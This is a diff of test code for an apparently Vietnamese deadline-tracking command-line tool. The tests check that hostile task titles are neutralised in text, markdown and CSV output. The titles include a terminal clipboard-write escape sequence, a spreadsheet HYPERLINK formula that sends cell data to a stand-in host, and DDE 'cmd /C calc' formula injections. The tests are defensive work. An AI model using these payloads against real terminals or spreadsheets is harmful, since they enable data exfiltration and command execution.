@@ -45,12 +45,11 @@ def test_due_title_cannot_forge_an_entry_or_reach_the_terminal(tmp_path: Path) -
     result = run(["due", "--today", "2026-01-05"], repo)
     assert_no_raw(result.stdout)
     lines = result.lines()
-    assert lines[:4] == [
+    assert lines[2:5] == [
         "QUÁ HẠN (4)",
-        "  15/12/2023  quá 752 ngày  ct-2022",
-        "      Báo cáo năm␛]52;c;cHduZWQ=␇␊  20/12/2025  quá 1 ngày  gia-mao — từ năm 2023: "
-        "Sở Nội vụ → UBND tỉnh Cà Mau",
-        "      3 kỳ chưa báo cáo: 2023, 2024, 2025",
+        "  15/12/2025  quá 21 ngày (kỳ đầu quá 752 ngày)  ct-2022 bao-cao-nam 2023…2025",
+        "      Báo cáo năm␛]52;c;cHduZWQ=␇␊  20/12/2025  quá 1 ngày  gia-mao — 3 kỳ, từ năm 2023 "
+        "đến năm 2025: Sở Nội vụ → UBND tỉnh Cà Mau",
     ]
     # the forged deadline is never at the start of a line
     assert not any(line.startswith("  20/12/2025") for line in lines)
@@ -61,9 +60,10 @@ def test_due_markdown_rows_stay_rows(tmp_path: Path) -> None:
     result = run(["due", "--today", "2026-01-05", "--format", "markdown"], repo)
     assert_no_raw(result.stdout)
     rows = [line for line in result.lines() if line.startswith("| 15/12/2023")]
-    assert rows == ["| 15/12/2023 | quá 752 ngày | `ct-2022` | Báo cáo năm␛]52;c;cHduZWQ=␇␊  "
-                    "20/12/2025  quá 1 ngày  gia-mao — năm 2023: Sở Nội vụ → UBND tỉnh Cà Mau "
-                    "| hạn ngày 15/12 hằng năm |"]
+    assert rows == ["| 15/12/2023 | quá 752 ngày | `ct-2022 bao-cao-nam 2023` | Báo cáo "
+                    "năm␛]52;c;cHduZWQ=␇␊  20/12/2025  quá 1 ngày  gia-mao — năm 2023: Sở Nội vụ "
+                    "→ UBND tỉnh Cà Mau | hạn ngày 15/12 hằng năm | `ppcli record report ct-2022 "
+                    "bao-cao-nam 2023 --on NGÀY` |"]
 
 
 def test_due_json_escapes_c1_and_bidi_but_keeps_the_data(tmp_path: Path) -> None:
@@ -76,18 +76,18 @@ def test_due_json_escapes_c1_and_bidi_but_keeps_the_data(tmp_path: Path) -> None
 
 def test_csv_formula_cells_are_prefixed_and_numbers_stay_numbers(tmp_path: Path) -> None:
     repo = hostile_repo(tmp_path / "r", title='"=HYPERLINK(\\"http://x.example/?\\"&A1,\\"Mở\\")"')
-    result = run(["due", "--today", "2026-01-05", "--format", "csv"], repo)
+    result = run(["due", "--today", "2026-01-05", "--format", "csv", "--lang", "en"], repo)
     rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
     first = dict(zip(rows[0], rows[1], strict=True))
-    assert first["title"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")"
-    assert first["days"] == "-752"  # a number, not text: no prefix
+    assert first["Title"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")"
+    assert first["Days"] == "-752"  # a number, not text: no prefix
     for start in ("+", "-", "@"):
         repo = hostile_repo(tmp_path / f"r{ord(start)}",
                             title=json.dumps(f"{start}cmd|' /C calc'!A0"))
         out = run(["due", "--today", "2026-01-05", "--format", "csv"], repo).stdout
         rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"))))
         expected = f"'{start}cmd|' /C calc'!A0"
-        assert dict(zip(rows[0], rows[1], strict=True))["title"] == expected
+        assert dict(zip(rows[0], rows[1], strict=True))["Tên việc"] == expected  # Vietnamese
 
 
 def test_csv_cell_rule_for_every_formula_start() -> None:
